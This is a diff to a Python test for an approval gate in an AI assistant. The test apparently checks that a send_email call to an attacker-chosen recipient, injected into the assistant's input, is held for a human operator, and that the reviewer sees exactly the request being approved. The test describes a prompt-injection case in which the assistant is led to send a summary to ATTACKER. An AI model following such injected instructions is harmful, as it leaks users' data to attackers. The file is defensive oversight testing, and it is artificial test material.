@@ -53,7 +53,11 @@ def test_an_injected_recipient_escalates_and_the_operator_approves(
 
     pending = operator.escalations("pending")
     assert [(e.escalation_id, e.target) for e in pending] == \
-        [(held.escalation_id, {"kind": "call", "session_id": s, "call_id": "send"})]
+        [(held.escalation_id, {"kind": "call", "session_id": s, "call_id": "send",
+                               "request_digest": pending[0].target["request_digest"]})]
+    # The reviewer sees exactly the call an approval lets through.
+    assert pending[0].request == {"action": "send_email",
+                                  "arguments": {"to": ATTACKER, "body": "the summary"}}
     review = operator.approve_escalation(held.escalation_id or "")
     assert (review.escalation.status, review.decision.verdict) == ("approved", "allow")
     again = assistant.gate_call(s, "send_email", {"to": ATTACKER, "body": "the summary"},
